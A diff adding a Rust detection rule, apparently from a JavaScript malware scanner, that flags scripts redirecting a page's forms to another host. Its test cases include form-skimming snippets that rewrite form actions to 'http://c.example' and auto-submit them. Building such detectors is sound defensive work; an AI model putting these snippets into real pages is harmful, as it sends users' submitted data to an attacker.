@@ -1,0 +1,42 @@
+//! `page-forms-sent-abroad`.
+
+use crate::facts::Atom;
+use crate::signals::{Evidence, Held, Signal, one};
+use crate::{ClassSet, Severity};
+
+pub(super) const SIGNAL: Signal = Signal {
+    id: "page-forms-sent-abroad",
+    description: "The script sends the forms that this page has to another host.",
+    severity: Severity::High,
+    classes: ClassSet::MALWARE,
+    needs: &[one(&[Atom::FormSentAbroad])],
+    within: 0,
+    only_if: Some(are_of_page),
+    #[cfg(test)]
+    cases: crate::signals::Cases {
+        with: &[
+            "var f=document.forms,i=f.length-1;do{f[i].action='http://c.example';f[i].onsubmit=null}while(--i)",
+            "setTimeout(function(){document.forms[0].action='http://c.example/p';document.forms[0].submit()},5e3)",
+        ],
+        without: &[
+            "var f=document.createElement('form');f.action='https://c.example/pay';document.body.appendChild(f);f.submit()",
+            "document.forms[0].action='/checkout'",
+            "var n=document.forms.length;search.action='https://s.example/q'",
+        ],
+    },
+};
+
+/// Whether the form is one of `document.forms`, by its number, and not one that the script has made or knows by name.
+fn are_of_page(evidence: &Evidence<'_>, held: Held) -> bool {
+    let (stream, items) = (evidence.stream, evidence.stream.items());
+    let at = held.last as usize;
+    let place = &items[at.saturating_sub(LIST)..at.min(items.len())];
+    // `forms[i].action`: an index stands before.
+    let indexed = place.last().is_some_and(|item| item.is_op(b']'));
+    let lists =
+        place.windows(2).any(|pair| stream.text(&pair[1]) == "forms" && stream.text(&pair[0]) == "document");
+    indexed && lists
+}
+
+/// Items between `document.forms` and where one of them gets its target.
+const LIST: usize = 40;
